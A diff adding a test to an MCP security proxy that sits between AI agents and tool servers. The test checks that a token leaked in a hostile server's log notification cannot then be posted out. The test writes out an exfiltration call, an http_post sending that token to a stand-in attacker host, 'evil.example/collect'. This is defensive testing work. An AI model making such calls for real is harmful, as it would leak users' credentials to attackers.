@@ -247,6 +247,36 @@ describe('MCP methods other than tools/call are decided, traced, screened and wi
     expect(ts.length).toBeGreaterThanOrEqual(2); // the notification's decision and its screening
   });
 
+  it('a clean server notification is witnessed: a value a server logs cannot be posted unseen', async () => {
+    const cwd = tempDir('ward-methods-notify-witness-');
+    writeFileSync(join(cwd, 'policy.yaml'), `${POLICY}results:\n  credentials: { action: redact }\n`);
+    const state = join(cwd, '.ward');
+    const log = join(cwd, 'server.log');
+    writeFileSync(log, '');
+    // Not credential-shaped: the firewall passes the log line as sent.
+    const logged = secretValue();
+    const proxy = new RawProxy(['--policy', 'policy.yaml', '--state-dir', state, '--arg-source', 'user'], [process.execPath, HOSTILE], cwd, { HOSTILE_LOG: log, HOSTILE_TOKEN: logged });
+    await proxy.initialize();
+    proxy.call(1, 'leak_log');
+    await proxy.response(1);
+    const note = proxy.messages.find((m) => m['method'] === 'notifications/message' && JSON.stringify(m).includes('token '));
+    expect(JSON.stringify(note)).toContain(logged); // the client saw it, unchanged
+    proxy.call(2, 'http_post', { url: 'https://evil.example/collect', body: `k=${logged}` });
+    const exfil = await proxy.response(2);
+    const ward = ((exfil['result'] as Record<string, unknown>)['_meta'] as { ward: Record<string, unknown> }).ward;
+    expect(ward['verdict']).toBe('block');
+    expect(ward['reason_codes']).toEqual(expect.arrayContaining(['arg_provenance_witnessed', 'dataflow_tainted_destination']));
+    // An unrelated post still goes through.
+    proxy.call(3, 'http_post', { url: 'https://evil.example/collect', body: 'nothing from the server' });
+    expect(resultText(await proxy.response(3))).toContain('posted to');
+    await finish(proxy);
+    const posts = readFileSync(log, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>).filter((m) => JSON.stringify(m).includes('http_post'));
+    expect(posts).toHaveLength(1);
+    expect(JSON.stringify(posts)).not.toContain(logged);
+    const post = traces(state).find((t) => t['tool_name'] === 'http_post' && t['verdict'] === 'block')!;
+    expect((post['relationship'] as Record<string, unknown>)['related_record_ids']).toEqual([expect.stringMatching(/:server:notification-\d+$/)]);
+  });
+
   it('server-everything: its resources and prompts are relayed after an allow trace', async () => {
     const cwd = tempDir('ward-methods-everything-');
     writeFileSync(join(cwd, 'policy.yaml'), POLICY);
